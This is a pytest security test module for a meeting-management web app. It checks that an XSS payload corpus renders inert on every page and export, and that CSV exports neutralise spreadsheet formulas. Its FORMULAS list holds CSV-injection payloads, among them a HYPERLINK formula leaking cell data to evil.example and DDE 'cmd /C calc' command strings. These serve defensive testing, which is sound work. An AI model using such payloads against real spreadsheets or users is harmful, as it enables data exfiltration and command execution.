"""The XSS corpus (tests/security/xss_corpus.py) through every text path of the app,
on every page that shows it, and the minutes exports; CSV exports neutralise formulas.

For each payload, one world carries it in every text field at once: group and work
stream names, series title/description/location, an occurrence's own title and change
reason, a one-off meeting's title/location/agenda, minutes items, action items,
attendee names from a pasted list and from a call's CSV, a MeetBot log (topics, info,
links, actions, a hostile nick) and an irc-meetings YAML file (project, description,
chairs). Input goes through the services a form or import uses (so parsers run);
a service that refuses a payload is safe too. Every page is then checked with the
corpus' parser-based checker (no script from input, no on* attributes, no
javascript:/data: URLs, no embedding), and no raw ``<`` from input may reach HTML.

Escaping does not depend on the database, so this runs on SQLite only (the writes
themselves are covered on both backends elsewhere).
"""

from __future__ import annotations

import csv
import io
from contextlib import suppress
from datetime import UTC, datetime, time, timedelta
from pathlib import Path

import pytest
import yaml
from flask import g
from sqlalchemy import select

from meetbot.extensions import db
from meetbot.models import Group, Meeting, MeetingSeries, Person, Role, WorkStream, utcnow
from meetbot.services import (
    actions,
    agenda,
    attendance_import,
    attendance_roster,
    imports,
    log_import,
    minutes,
    occurrence_changes,
    one_off_meetings,
    series_input,
)
from meetbot.services import groups as group_service
from meetbot.services import members as member_service
from meetbot.services import series as series_service
from meetbot.services.errors import ServiceError
from tests.security.xss_corpus import PAYLOADS, active_content


@pytest.fixture
def db_backend() -> str:
    """SQLite only: see the module docstring."""
    return "sqlite"


def _try(func, *args, **kwargs):
    """Run one injection; a refusal (the service said no) is a safe outcome."""
    with suppress(ServiceError):
        return func(*args, **kwargs)
    db.session.rollback()
    return None


def _nick(payload: str) -> str:
    """The payload as a chat nick (no spaces or '>' in a nick)."""
    return "".join(ch for ch in payload if not ch.isspace() and ch != ">")[:60] or "x"


def _log(payload: str, day: datetime) -> str:
    nick = _nick(payload)
    return "\n".join(
        [
            f"[{day:%H}:00] <chloe> #startmeeting wg",
            f"[{day:%H}:01] <chloe> #topic {payload}",
            f"[{day:%H}:02] <{nick}> {payload}",
            f"[{day:%H}:03] <chloe> #info {payload}",
            f"[{day:%H}:04] <chloe> #agreed {payload}",
            f"[{day:%H}:05] <chloe> #link https://example.org/{payload}",
            f"[{day:%H}:06] <chloe> #action {nick} {payload}",
            f"[{day:%H}:07] <chloe> #endmeeting",
            "",
        ]
    )


def _csv(payload: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Name (Original Name)", "User Email", "Duration (Minutes)"])
    writer.writerow([payload, "csv.guest@example.org", "40"])
    writer.writerow([f"Carla {payload}", "", "30"])
    return out.getvalue().encode()


def _yaml(payload: str) -> str:
    return yaml.safe_dump(
        {
            "project": payload,
            "meeting_id": "hostile",
            "agenda_url": "https://wiki.example.org/Hostile",
            "chair": f"{payload} (jdoe)",
            "description": payload,
            "schedule": [
                {
                    "time": "1500",
                    "day": "Tuesday",
                    "irc": "openstack-meeting",
                    "frequency": "weekly",
                    "start_date": int(f"{utcnow():%Y%m%d}"),
                }
            ],
        }
    )


@pytest.fixture
def hostile(app, create_user, tmp_path, request):
    """A world with the payload in every text path: (payload, pages, posts)."""
    return build_world(request.param, create_user, tmp_path)


def build_world(payload: str, create_user, tmp_path: Path):
    """See ``hostile``; pages to GET and (url, form) previews to POST."""
    admin = create_user("Ada Admin", email="ada@example.org", admin=True)
    group = group_service.create_group(admin, slug="wg", name="Working group")
    _try(group_service.update_group, admin, group, name=payload[:200], description=payload)
    stream = group_service.create_work_stream(admin, group, slug="gaps", name="Gaps")
    _try(
        group_service.update_work_stream,
        admin,
        stream,
        name=payload[:200],
        description=payload,
        status="active",
        lead_ids=[admin.id],
    )
    now = utcnow()
    first = datetime.combine((now + timedelta(days=1)).date(), time(15, 0))
    data = series_input.SeriesInput(
        title=payload[:200],
        timezone="UTC",
        description=payload,
        location=payload[:500],
        slots=[series_input.SlotInput(start=first, duration_minutes=60, label=payload[:100])],
        chair_ids=[admin.id],
        work_stream_ids=[stream.id],
    )
    series = _try(series_service.create_series, admin, group, data)
    if series is None:  # the payload is not a valid title or location: a plain one
        data.title, data.location, data.slots[0].label = "Weekly call", "", ""
        series = series_service.create_series(admin, group, data)
    slot = series.slots[0]
    _try(
        occurrence_changes.retitle_occurrence,
        admin,
        series,
        slot.key,
        first + timedelta(days=7),
        title=payload[:200],
        location=payload[:500],
        reason=payload,
    )
    _try(
        occurrence_changes.cancel_occurrence,
        admin,
        series,
        slot.key,
        first + timedelta(days=14),
        payload,
    )
    # A one-off meeting that was held yesterday: agenda, minutes, attendance, actions.
    yesterday = datetime.combine((now - timedelta(days=1)).date(), time(15, 0))
    meeting = _try(
        one_off_meetings.create_one_off,
        admin,
        group,
        title=payload[:200],
        timezone="UTC",
        start_local=yesterday,
        duration_minutes=60,
        location=payload[:500],
        agenda=payload,
    ) or one_off_meetings.create_one_off(
        admin, group, title="Kick-off", timezone="UTC", start_local=yesterday, duration_minutes=60
    )
    _try(agenda.update_agenda, admin, meeting, payload, expected_version=meeting.lock_version)
    for kind in ("topic", "info", "agreed", "link", "idea"):
        _try(
            minutes.add_item, admin, meeting, kind=kind, text=payload, version=meeting.lock_version
        )
    action = _try(actions.create_action, admin, group, text=payload, meeting=meeting)
    at = meeting.start_dt + timedelta(minutes=10)
    pasted = attendance_import.parse_paste(f"{payload}\nAlice Example <alice@example.org>")
    _try(attendance_import.confirm_import, admin, meeting, pasted, {}, source="paste", now=at)
    _try(
        attendance_import.confirm_import,
        admin,
        meeting,
        attendance_import.parse_csv(_csv(payload)),
        {},
        source="csv",
        now=at,
    )
    _try(
        log_import.import_log,
        admin,
        meeting,
        _log(payload, meeting.start_dt),
        version=meeting.lock_version,
    )
    yaml_file = tmp_path / "hostile-meeting.yaml"
    yaml_file.write_text(_yaml(payload))
    imports.import_paths("wg", [yaml_file])
    db.session.commit()

    imported = db.session.scalar(
        select(MeetingSeries.id).where(MeetingSeries.external_id == "irc-meetings:hostile")
    )
    at_param = (first + timedelta(days=7)).isoformat(timespec="minutes")
    m = meeting.id
    pages = [
        "/groups/",
        "/groups/wg/",
        "/groups/wg/streams/gaps/",
        "/groups/wg/upcoming",
        "/groups/wg/actions",
        "/groups/wg/attendance",
        "/groups/wg/audit",
        f"/series/{series.id}/",
        f"/series/{series.id}/edit",
        f"/series/{series.id}/occurrence?slot={slot.key}&at={at_param}",
        f"/series/{imported}/" if imported else "/groups/wg/",
        f"/meetings/{m}/",
        f"/meetings/{m}/schedule",
        f"/meetings/{m}/agenda",
        f"/meetings/{m}/minutes/",
        f"/meetings/{m}/attendance",
        f"/meetings/{m}/minutes.html",
        f"/meetings/{m}/minutes.md",
        f"/meetings/{m}/minutes.txt",
        f"/meetings/{m}/email.txt?kind=summary",
        f"/meetings/{m}/email.txt?kind=agenda",
        "/me/actions",
        "/admin/people",
    ]
    if action is not None:
        pages += [f"/actions/{action.id}/", f"/actions/{action.id}/edit"]
    # Previews render the input before anything is saved.
    posts = [
        (f"/meetings/{m}/attendance/paste", {"paste-text": f"{payload}\nBob <bob@example.org>"}),
        (
            f"/meetings/{m}/attendance/csv",
            {"csv-file": (io.BytesIO(_csv(payload)), "call.csv")},
        ),
        (
            f"/meetings/{m}/minutes/import",
            {
                "log": _log(payload, meeting.start_dt),
                "version": str(db.session.get(Meeting, m).lock_version),
                "step": "preview",
            },
        ),
    ]
    return payload, pages, posts


EXPORT_TYPES = {
    ".md": "text/markdown",
    ".txt": "text/plain",
    ".html": "text/html",
}


def _check(response, where: str, payload: str, *, may_refuse: bool = False) -> None:
    assert response.status_code < 500, f"{where}: {response.status_code}"
    # Pages must show; a preview may refuse the input (e.g. NUL characters: 400).
    allowed = (200, 400, 413, 422) if may_refuse else (200,)
    assert response.status_code in allowed, f"{where}: {response.status_code}"
    path = where.split("?", 1)[0]
    for suffix, mimetype in EXPORT_TYPES.items():
        if path.endswith(suffix):
            assert response.mimetype == mimetype, where
    if response.mimetype != "text/html":
        # Not HTML: never sniffed as HTML by a browser.
        assert response.headers.get("X-Content-Type-Options") == "nosniff", where
        return
    html = response.get_data(as_text=True)
    found = active_content(html)
    assert found == [], f"{where}: {found}"
    if "<" in payload:
        assert payload not in html, f"{where}: the payload appears unescaped"


@pytest.mark.parametrize("hostile", PAYLOADS, indirect=True, ids=range(len(PAYLOADS)))
def test_every_text_path_renders_inert_everywhere(app, client, auth, hostile) -> None:
    payload, pages, posts = hostile
    auth.login("ada@example.org")
    for page in pages:
        g.pop("_login_user", None)
        _check(client.get(page), page, payload)
    for url, data in posts:
        g.pop("_login_user", None)
        response = client.post(url, data=data, content_type="multipart/form-data")
        _check(response, f"POST {url}", payload, may_refuse=True)


def test_the_world_really_carries_the_payload(app, create_user, tmp_path) -> None:
    """Guard against a world where every injection was refused: with a harmless
    marker, every text path stores it."""

    payload, _, _ = build_world("Marker <b>xss</b> text", create_user, tmp_path)
    texts = [
        *db.session.scalars(select(Group.name)),
        *db.session.scalars(select(WorkStream.name)),
        *db.session.scalars(select(MeetingSeries.title)),
        *db.session.scalars(select(MeetingSeries.description)),
        *db.session.scalars(select(Meeting.change_reason)),
        *db.session.scalars(select(Meeting.agenda)),
        *db.session.scalars(select(Person.display_name)),
    ]
    joined = "\n".join(t or "" for t in texts)
    assert joined.count(payload) >= 7, joined


# ------------------------------------------------------------------ CSV exports

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_attendance_csv_export_neutralises_formula_cells(app, client, auth, create_user) -> None:
    """Names, organizations, meeting titles and the recorder's name starting like a
    formula come out prefixed with a quote, so a spreadsheet shows them as text."""
    chair = create_user(FORMULAS[0], email="chair@example.org", organization="@corp")
    group = group_service.create_group(chair, slug="wg", name="Working group")
    member_service.set_role(chair, group, chair, Role.CHAIR)
    start = datetime.now(UTC).replace(microsecond=0) - timedelta(days=1)
    meeting = Meeting(
        group=group, title="=1+2", timezone="UTC", start_dt=start, end_dt=start + timedelta(hours=1)
    )
    people = [Person(display_name=name, organization=name) for name in FORMULAS]
    db.session.add_all([meeting, *people])
    db.session.commit()
    attendance_roster.save_roster(chair, meeting, [chair.id], now=start)
    group_service_members = [p.id for p in people]
    for person_id in group_service_members:
        member_service.set_role(chair, group, db.session.get(Person, person_id), Role.MEMBER)
    attendance_roster.save_roster(
        chair, meeting, [chair.id, *group_service_members], now=start + timedelta(minutes=1)
    )

    auth.login("chair@example.org")
    response = client.get("/groups/wg/attendance.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + 1 + len(FORMULAS)
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert dangerous == []
    for text in [*FORMULAS, "=1+2", "@corp"]:
        assert "'" + text in cells, text
